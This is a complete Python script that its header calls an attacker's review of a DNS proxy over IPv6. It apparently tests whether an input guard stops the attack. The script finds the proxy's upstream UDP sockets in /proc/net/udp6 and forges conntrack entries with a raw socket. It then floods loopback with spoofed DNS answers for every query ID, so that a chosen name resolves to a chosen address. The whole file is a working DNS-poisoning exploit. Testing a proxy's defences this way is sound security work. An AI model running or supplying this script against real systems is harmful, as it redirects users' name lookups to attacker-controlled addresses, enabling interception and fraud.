#!/usr/bin/env python3
# The attack an app with CAP_NET_RAW could try on the DNS proxy's upstream sockets over IPv6 (an
# attacker's review): for each socket connected to [RESOLVER]:53 in /proc/net/udp6 (the proxy's
# pool, port Q), (1) a raw IPv6 socket sends a junk datagram from [TARGET]:Q to [RESOLVER]:53, which
# is not in the proxy's group: the redirect makes a conntrack entry whose reply side is
# [::1]:PROXY_PORT -> [TARGET]:Q; (2) an AF_PACKET socket on lo writes that reply side, every id,
# each answering NAME (type A) with ADDRESS, for SECONDS. If the input guard let them through, NAT
# would turn the source into [RESOLVER]:53 and the pool socket would take the answer.
# Usage: python3 lo6-copy-spray.py RESOLVER TARGET PROXY_PORT NAME ADDRESS SECONDS
#   -> JSON {sent, copies, errors, ports}
import ipaddress, json, socket, struct, sys, time
resolver, target, proxy_port, name, address, seconds = sys.argv[1:7]
proxy_port = int(proxy_port); seconds = float(seconds)
R = ipaddress.IPv6Address(resolver); T = ipaddress.IPv6Address(target); LO = ipaddress.IPv6Address("::1")
rhex = "".join("%08X" % struct.unpack("<I", R.packed[i:i + 4])[0] for i in range(0, 16, 4)) + ":0035"
qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
question = qname + struct.pack("!HH", 1, 1)
record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(address)
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF or 0xFFFF
def udp6(src, dst, sport, dport, payload):
    length = 8 + len(payload)
    pseudo = src.packed + dst.packed + struct.pack("!IxxxB", length, 17)
    head = struct.pack("!HHHH", sport, dport, length, 0)
    return struct.pack("!HHHH", sport, dport, length, csum(pseudo + head + payload)) + payload
def ports():
    out = []
    for line in open("/proc/net/udp6").read().splitlines()[1:]:
        c = line.split()
        if c[2] == rhex: out.append(int(c[1].split(":")[1], 16))
    return out
raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
raw.bind((target, 0))
lo = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
eth = b"\0" * 12 + b"\x86\xdd"
sent = 0; copies = 0; errors = {}; swept = set()
end = time.time() + seconds
while time.time() < end:
    for port in ports():
        if port not in swept:
            try:
                raw.sendto(udp6(T, R, port, 53, b"\0" * 12), (resolver, 0)); copies += 1
            except OSError as e:
                errors["copy %d" % e.errno] = errors.get("copy %d" % e.errno, 0) + 1
            swept.add(port)
            time.sleep(0.01)
        for qid in range(65536):
            dns = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + question + record
            udp = udp6(LO, T, proxy_port, port, dns)
            ip6 = struct.pack("!IHBB", 6 << 28, len(udp), 17, 64) + LO.packed + T.packed
            try:
                lo.sendto(eth + ip6 + udp, ("lo", 0x86DD)); sent += 1
            except OSError as e:
                errors[str(e.errno)] = errors.get(str(e.errno), 0) + 1
        if time.time() >= end: break
print(json.dumps({"sent": sent, "copies": copies, "errors": errors, "ports": len(swept)}))
